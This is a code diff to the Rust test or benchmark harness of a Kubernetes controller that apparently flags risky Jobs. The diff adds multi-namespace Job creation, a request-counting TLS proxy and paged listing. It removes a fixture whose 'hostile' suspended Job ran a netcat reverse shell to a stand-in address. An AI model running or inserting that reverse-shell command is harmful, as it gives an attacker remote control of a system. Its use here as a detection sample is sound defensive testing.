@@ -13,10 +13,16 @@ use kube::{Api, Client, Config, Resource as _};
 use serde_json::{Value, json};
 use tokio::runtime::Runtime;
 
-use crate::support::{ControlPlane, NAMESPACE, apply_manifests, eventually, sum};
+use crate::support::proxy::{Authority, Proxy};
+use crate::support::{ControlPlane, NAMESPACE, apply_manifests, eventually, kubeconfig, sum};
+use crate::workloads;
 
 /// As many as the controller has under way.
 pub(crate) const AT_ONE_TIME: usize = 16;
+/// Many workloads are in namespaces of this number.
+const NAMESPACES: usize = 10;
+/// The controller's own.
+const PAGE_SIZE: u32 = 100;
 
 const LIMIT: Duration = Duration::from_secs(120);
 
@@ -37,10 +43,27 @@ impl Cluster {
         Self { plane, runtime, admin, kubeconfig }
     }
 
+    pub(crate) fn plane(&self) -> &ControlPlane {
+        &self.plane
+    }
+
     /// The rights of the controller. Bare clients have no others: the API server treats an administrator's
     /// requests better.
     pub(crate) fn kubeconfig(&self) -> &Path {
         &self.kubeconfig
+    }
+
+    /// A proxy that counts requests, and a kubeconfig that leads the controller through it. It is talked to with TLS,
+    /// as the API server is.
+    pub(crate) fn counting_proxy(&self) -> (Proxy, PathBuf) {
+        let (proxy, authority) = (Proxy::start(&self.plane), Authority::new("bench"));
+        proxy.serve_tls(&authority);
+        let path = self.plane.dir().join("counting.kubeconfig");
+        let option = format!("--namespace={NAMESPACE}");
+        let token = self.plane.kubectl_ok(&["create", "token", "jobrisk", &option, "--duration=24h"]);
+        let url = proxy.url().replace("http:", "https:");
+        kubeconfig::write(&path, &url, &authority.ca_pem, "jobrisk", token.trim_end()).unwrap();
+        (proxy, path)
     }
 
     pub(crate) fn admin(&self) -> Client {
@@ -55,33 +78,39 @@ impl Cluster {
         self.plane.kubectl_ok(&["create", "namespace", name]);
     }
 
-    /// Creates the Jobs of these numbers and waits until their own controller has nothing to do with them.
-    pub(crate) fn create_jobs(&self, namespace: &str, numbers: std::ops::Range<usize>) {
-        let all = numbers.end;
-        let api: Api<Job> = Api::namespaced(self.admin(), namespace);
-        let create = stream::iter(numbers)
+    /// Creates so many Jobs, which nobody but the controller has anything to do with.
+    pub(crate) fn create_many(&self, count: usize) {
+        for namespace in namespaces() {
+            self.create_namespace(&namespace);
+        }
+        let namespaces: Vec<Api<Job>> =
+            namespaces().map(|namespace| Api::namespaced(self.admin(), &namespace)).collect();
+        let create = stream::iter(0..count)
             .map(|number| {
-                let (api, job) = (&api, job(&format!("w-{number}"), number % 10 == 9));
+                let (api, job) = (&namespaces[number % NAMESPACES], workloads::one_of_many(number));
                 async move { api.create(&PostParams::default(), &job).await }
             })
             .buffer_unordered(AT_ONE_TIME)
             .try_for_each(|_| async { Ok(()) });
         self.block_on(create).unwrap();
-        let settled = |job: &Job| job.status.as_ref().is_some_and(|status| status.conditions.is_some());
-        let done = eventually(LIMIT, || {
-            let jobs = self.block_on(api.list(&ListParams::default())).unwrap();
-            (jobs.items.iter().filter(|job| settled(job)).count() == all).then_some(())
-        });
-        done.expect("the job controller does not come to an end");
     }
 
-    pub(crate) fn delete_reports(&self, namespace: &str) {
-        let api: Api<JobRiskReport> = Api::namespaced(self.admin(), namespace);
-        self.block_on(api.delete_collection(&DeleteParams::default(), &ListParams::default())).unwrap();
-        let gone = eventually(LIMIT, || {
-            let left = self.block_on(api.list_metadata(&ListParams::default().limit(1))).unwrap();
-            left.items.is_empty().then_some(())
+    /// All reports.
+    pub(crate) fn reports(&self) -> Vec<JobRiskReport> {
+        let api: Api<JobRiskReport> = Api::all(self.admin());
+        self.block_on(api.list(&ListParams::default())).unwrap().items
+    }
+
+    /// One by one: a collection of many takes longer to delete than the API server gives a request.
+    pub(crate) fn delete_reports(&self) {
+        let reports = self.reports();
+        let delete = stream::iter(reports).map(|report| async move {
+            let api: Api<JobRiskReport> =
+                Api::namespaced(self.admin(), report.metadata.namespace.as_deref().unwrap());
+            api.delete(&report.metadata.name.unwrap(), &DeleteParams::default()).await.unwrap();
         });
+        self.block_on(delete.buffer_unordered(AT_ONE_TIME).for_each(|()| async {}));
+        let gone = eventually(LIMIT, || self.reports().is_empty().then_some(()));
         gone.expect("the reports stay");
         settle();
     }
@@ -100,6 +129,10 @@ impl Cluster {
     }
 }
 
+fn namespaces() -> impl Iterator<Item = String> {
+    (0..NAMESPACES).map(|number| format!("team-{number}"))
+}
+
 /// One thread, as the controller has.
 pub(crate) fn runtime() -> Runtime {
     tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap()
@@ -111,27 +144,26 @@ pub(crate) async fn client(kubeconfig: &Path) -> Client {
     Client::try_from(config).unwrap()
 }
 
-/// A Job that stays as it is, since it is suspended.
-pub(crate) fn job(name: &str, hostile: bool) -> Job {
-    let (image, script) = if hostile {
-        ("alpine:latest", "nc 192.0.2.10 4444 -e /bin/sh")
-    } else {
-        ("ubuntu:24.04", "set -eu; ./configure && make -j2 && make check")
-    };
-    let job = json!({
-        "metadata": { "name": name },
-        "spec": { "suspend": true, "backoffLimit": 0, "template": { "spec": {
-            "restartPolicy": "Never",
-            "containers": [{
-                "name": "build",
-                "image": image,
-                "command": ["/bin/sh", "-c", script],
-                "volumeMounts": [{ "name": "source", "mountPath": "/src" }],
-            }],
-            "volumes": [{ "name": "source", "emptyDir": {} }],
-        } } },
-    });
-    serde_json::from_value(job).unwrap()
+/// Lists all objects at a path, in pages as the controller does; nothing is decoded but where the next page is.
+pub(crate) async fn list_all(client: &Client, url: String) {
+    #[derive(serde::Deserialize)]
+    struct Page {
+        metadata: PageMetadata,
+    }
+    #[derive(serde::Deserialize)]
+    struct PageMetadata {
+        #[serde(rename = "continue")]
+        next: Option<String>,
+    }
+    let mut params = ListParams::default().limit(PAGE_SIZE);
+    loop {
+        let request = Request::new(url.as_str()).list(&params).unwrap();
+        let text = client.request_text(request).await.unwrap();
+        match serde_json::from_str::<Page>(&text).unwrap().metadata.next {
+            Some(token) if !token.is_empty() => params = params.continue_token(&token),
+            _ => return,
+        }
+    }
 }
 
 /// What has to be applied to make a report like `report`, under another name.
